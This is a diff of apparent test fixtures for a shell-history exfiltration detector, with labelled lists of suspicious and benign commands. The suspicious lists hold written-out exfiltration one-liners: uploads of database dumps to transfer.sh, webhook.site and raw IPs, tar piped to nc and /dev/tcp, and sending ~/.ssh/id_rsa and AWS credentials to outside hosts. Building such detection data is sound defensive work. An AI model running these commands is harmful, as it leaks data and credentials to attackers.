@@ -125,20 +125,26 @@ HISTORY = {
     ]),
     "TRI-EXFIL-001": ([
         "curl -T dump.sql.gz ftp://203.0.113.7/", 'curl -F "file=@/var/backups/db.sql.gz" https://transfer.sh',
-        "curl --data-binary @/tmp/out.tgz https://drop.example.net/u", "scp /tmp/db.tgz user@203.0.113.9:/tmp/",
-        "rsync -az /var/www/ backup@files.example.org:/srv/", "tar czf - /var/www | nc 198.51.100.7 9000",
+        "scp /tmp/db.tgz user@203.0.113.9:/tmp/", "tar czf - /var/www | nc 198.51.100.7 9000",
         "nc 198.51.100.7 9000 < /tmp/db.sql", "cat app.log | curl -F 'f:1=<-' ix.io",
-        "wget --post-file=/tmp/x.tgz http://203.0.113.7/up",
-        'curl -d "$(cat /etc/hosts)" https://drop.example.net/', "tar czf - /srv/app | ssh u@203.0.113.7 'cat > a.tgz'",
+        "wget --post-file=/tmp/x.tgz http://203.0.113.7/up", "curl -sk -T /dev/shm/.c.tgz https://198.51.100.4:8443/",
+        'curl -d "$(cat /etc/hosts)" https://webhook.site/abc', "tar czf - /srv/app | ssh u@203.0.113.7 'cat > a.tgz'",
         "ssh u@203.0.113.7 'cat > db.sql' < /tmp/db.sql", "cat /tmp/db.sql > /dev/tcp/203.0.113.7/80",
+        "rsync -az /var/www/ x@[2001:db8:4::7]:/srv/",
     ], [
         "scp user@203.0.113.9:/tmp/file .", "scp dump.sql backup01:/srv/", "rsync -a /srv/ 10.0.0.5:/srv/",
         "curl -X POST -d '{\"a\":1}' https://api.example.com/x", "curl -T x http://localhost:8080/",
         "curl --data-binary @body.json http://127.0.0.1:9200/_bulk", "curl -fsSL https://example.com/file -o file",
-        "rsync -av /srv/ /mnt/backup/", "scp f user@db1.internal:/tmp/",
-        "ssh admin@203.0.113.7", "ssh -i key u@203.0.113.7 uptime", "pg_dump db | ssh backup01 'cat > db.sql'",
-        "echo > /dev/tcp/10.0.0.5/5432", "ssh u@203.0.113.7 uptime < /dev/null",
+        "rsync -av /srv/ /mnt/backup/", "scp f user@db1.internal:/tmp/", "ssh admin@203.0.113.7",
+        "ssh -i key u@203.0.113.7 uptime", "pg_dump db | ssh backup01 'cat > db.sql'", "echo > /dev/tcp/10.0.0.5/5432",
+        "ssh u@203.0.113.7 uptime < /dev/null", "rsync -az /var/www/ backup@files.example.org:/srv/",
+        "curl --data-binary @/tmp/out.tgz https://drop.example.net/u",
     ]),
+    # the same to a named host: backups and API calls look like this every day
+    "TRI-EXFIL-003": ([
+        "rsync -az /var/backups/ backup@files.example.org:/srv/", "curl --data-binary @/tmp/out.tgz https://drop.example.net/u",
+        "pg_dump appdb | ssh backup@offsite.example.com 'cat > appdb.sql'",
+    ], ["scp /tmp/db.tgz user@203.0.113.9:/tmp/", "rsync -a /srv/ 10.0.0.5:/srv/", "scp dump.sql backup01:/srv/"]),
     "TRI-EXFIL-002": ([
         "scp ~/.ssh/id_rsa user@203.0.113.9:", "curl -F f=@/root/.aws/credentials https://webhook.site/abc",
         "tar czf - ~/.ssh | curl -T - https://transfer.sh/k.tgz", "rsync -a /root/.ssh/ x@198.51.100.2:/tmp/k/",
@@ -473,6 +479,7 @@ CLEAN = {
     "db": [
         "sudo -u postgres psql", "pg_dump -Fc appdb > /var/backups/appdb.dump",
         "rsync -az /var/backups/ backup@10.0.0.20:/srv/backups/db1/", "sudo systemctl restart postgresql",
+        "rsync -az --delete /var/backups/ backup@offsite.example.com:/srv/db1/",
         "tail -n 100 /var/log/postgresql/postgresql-16-main.log", "sudo find /var/log -name '*.gz' -mtime +30 -delete",
         "grep -i error /var/log/syslog | tail", "mysql -u root -p", "sudo systemctl status auditd",
         "ls -la /var/lib/postgresql/16/main", "sudo truncate -s 0 /srv/app/tmp/cache.bin",
